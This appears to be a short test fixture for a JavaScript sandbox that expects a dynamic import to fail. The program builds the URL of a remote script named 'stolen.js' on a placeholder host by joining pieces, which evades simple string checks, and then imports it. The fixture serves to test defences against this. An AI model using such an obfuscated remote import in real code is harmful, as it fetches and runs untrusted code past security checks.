/*
 * outcome: failed
 * message: dynamically imported module
 * message-webkit: module script
 */
/* program */
const from = ['https:', '', 'example.com', 'stolen.js'].join('/')
await import(from)
